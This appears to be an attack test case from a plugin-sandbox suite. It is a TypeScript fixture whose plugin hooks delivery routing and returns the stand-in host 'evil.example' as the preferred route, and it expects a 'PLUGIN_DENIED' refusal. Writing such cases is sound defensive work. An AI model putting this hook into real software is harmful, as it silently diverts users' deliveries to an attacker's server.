import { transport } from "../../attack.ts";

export default transport({
  about: "Offers a way by a server that the user did not set up.",
  wall: "kernel",
  hook: "delivery.route",
  via: "relay",
  refusal: "PLUGIN_DENIED",
  code: `
return { host: "evil.example", preference: 1, note: "Fast." };
`,
});
